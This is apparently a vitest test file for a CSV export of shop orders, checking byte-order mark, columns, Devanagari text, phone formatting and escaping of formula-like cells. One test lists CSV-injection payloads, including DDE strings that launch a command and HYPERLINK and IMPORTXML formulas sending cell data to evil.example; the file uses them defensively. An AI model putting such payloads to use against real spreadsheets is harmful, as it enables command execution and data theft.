import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { AdminOrder } from '../api/order-doc';
import { makeAdminOrder } from '../testing/make-admin-order';
import { BOM, csvCell, csvDate, csvPhone, ORDERS_CSV_HEADER, ordersCsv } from './orders-csv';

function order(overrides: Partial<AdminOrder> = {}): AdminOrder {
  return makeAdminOrder({ name: 'आशा देवी', ...overrides });
}

function parse(text: string): string[][] {
  return Papa.parse<string[]>(text.slice(BOM.length)).data;
}

/** Whether a text holds a control character other than the line feed. */
function hasControl(text: string): boolean {
  return Array.from(text).some((char) => {
    const code = char.charCodeAt(0);
    return char !== '\n' && (code < 0x20 || (code >= 0x7f && code <= 0x9f));
  });
}

describe('ordersCsv', () => {
  it('starts with a UTF-8 byte-order mark and a header, one row per order', () => {
    const text = ordersCsv([order(), order({ id: 'second' })]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parse(text);
    expect(rows[0]).toEqual([...ORDERS_CSV_HEADER]);
    expect(rows).toHaveLength(3);
    expect(rows[2]?.[0]).toBe('second');
  });

  it('writes id, date, name, phone, e-mail, address, items, total, status and language, Devanagari kept', () => {
    expect(parse(ordersCsv([order()]))[1]).toEqual([
      'AbCdEfGhIjKlMnOpQrSt',
      '2026-01-31 09:05',
      'आशा देवी',
      '098765 43210',
      'asha@example.com',
      '12 MG Road, Jaipur',
      'नीम साबुन × 2; Amla Juice × 1',
      '1299.5',
      'placed',
      'English',
    ]);
  });

  it('names the language the order was placed in, and leaves it empty when the order does not say', () => {
    const rows = parse(
      ordersCsv([order({ language: 'hi' }), order({ language: 'en' }), order({ language: null })]),
    );
    expect(rows[0]?.at(-1)).toBe('Language');
    expect(rows.slice(1).map((row) => row.at(-1))).toEqual(['Hindi', 'English', '']);
    expect(rows.slice(1).map((row) => row.length)).toEqual([10, 10, 10]);
  });

  it('keeps ₹ and quotes, commas and line breaks intact', () => {
    const row = parse(ordersCsv([order({ address: 'Flat 2, "Rose" Villa\nJaipur ₹' })]))[1];
    expect(row?.[5]).toBe('Flat 2, "Rose" Villa\nJaipur ₹');
  });

  it.each(['=HYPERLINK("x")', '+911234', '-2+3', '@SUM(A1)'])(
    'escapes a cell that starts like a formula (%j) with a leading quote',
    (value) => {
      const row = parse(ordersCsv([order({ name: value, address: value })]))[1];
      expect(row?.[2]).toBe(`'${value}`);
      expect(row?.[5]).toBe(`'${value}`);
    },
  );

  // A formula-injection list: each starts a formula once whitespace and line breaks are skipped.
  it.each([
    '=1+1\n',
    ' =1+1',
    '\n=1+1',
    '\r\n=1+1',
    '  \n  +1',
    "\t=cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    'DDE("cmd";"/C calc";"!A0")A0'.replace(/^/, '='),
    '\u0000=1+1',
    '\u001b=1+1',
    '＝1+1',
    '＋1',
  ])('writes a formula-like text (%j) as text, with a leading quote and no control characters', (value) => {
    const cell = csvCell(value);
    expect(cell.startsWith("'")).toBe(true);
    expect(hasControl(cell)).toBe(false);
    const row = parse(ordersCsv([order({ name: value, address: value })]))[1];
    expect(row?.[2]).toBe(cell);
    expect(row?.[5]).toBe(cell);
  });

  it.each(['Asha Verma', '12 MG Road\nJaipur', 'Flat 2-B', 'email@x.com', 'आशा'])(
    'leaves an ordinary text (%j) as it is',
    (value) => {
      expect(csvCell(value)).toBe(value);
    },
  );

  it('writes no tab or carriage return at all: a tab becomes a space, a carriage return a line feed', () => {
    expect(csvCell('\tcmd')).toBe(' cmd');
    expect(csvCell('\rcmd')).toBe('\ncmd');
  });

  it('drops control characters inside a text and keeps its line breaks', () => {
    expect(csvCell('Asha\u0000 Ve\u0007rma\r\nJaipur\tIndia')).toBe('Asha Verma\nJaipur India');
  });

  it.each([
    ['09876543210', '098765 43210'],
    ['9876543210', '98765 43210'],
    ['919876543210', '9198765 43210'],
  ])('writes the phone %s as text that keeps its leading digits (%s)', (number, cell) => {
    expect(csvPhone(number)).toBe(cell);
    expect(Number.isNaN(Number(cell))).toBe(true);
  });

  it('leaves the date empty when it is not known yet', () => {
    expect(csvDate(null)).toBe('');
  });
});
